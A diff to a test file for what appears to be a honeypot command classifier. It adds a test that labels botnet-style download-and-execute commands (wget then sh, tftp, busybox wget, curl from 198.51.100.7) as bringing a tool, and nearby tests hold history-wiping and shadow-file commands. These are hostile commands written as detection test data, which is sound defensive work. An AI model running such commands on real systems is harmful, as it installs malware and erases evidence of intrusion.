@@ -4,7 +4,7 @@ import { describe, test } from 'node:test';
 import { attackOf } from '../../tests/fuzz/words.ts';
 import type { GatheredAttack } from './attack-row.ts';
 import { listSignals } from './signals.ts';
-import { judgeResults } from './stage.ts';
+import { judgeResults, judgeStage } from './stage.ts';
 import { judgeTechniques, technique_rules } from './techniques.ts';
 
 const typing = (text: string): GatheredAttack => ({
@@ -96,6 +96,24 @@ describe('what came of a command', () => {
       assert.deepEqual(resultsOf(text), ['disclosure of information'], text);
     for (const text of ['rm -f ~/.bash_history', 'chattr -i /etc/shadow', 'echo "allocate 1"', 'history -c'])
       assert.deepEqual(resultsOf(text), [], text);
+  });
+
+  test('is a tool that was brought where something was to be fetched, also by a honeypot that reaches nobody', () => {
+    const stageOf = (text: string): string => judgeStage(typing(text)).stage;
+    for (const text of [
+      'wget http://198.51.100.7/bins.sh; sh bins.sh',
+      'tftp -g -r bot.arm 198.51.100.7',
+      '/bin/busybox wget http://198.51.100.7/bot.arm7 -O - > /tmp/a',
+      'cd /tmp; curl -O ftp://198.51.100.7/a.pl',
+    ])
+      assert.equal(stageOf(text), 'brought a tool', text);
+    for (const text of [
+      'tftp; wget; /bin/busybox ECCHI',
+      'which wget',
+      'ping 198.51.100.7',
+      'curl --version',
+    ])
+      assert.equal(stageOf(text), 'acted', text);
   });
 
   test('is no corruption where what is written goes nowhere, and a fork bomb is denial of service', () => {
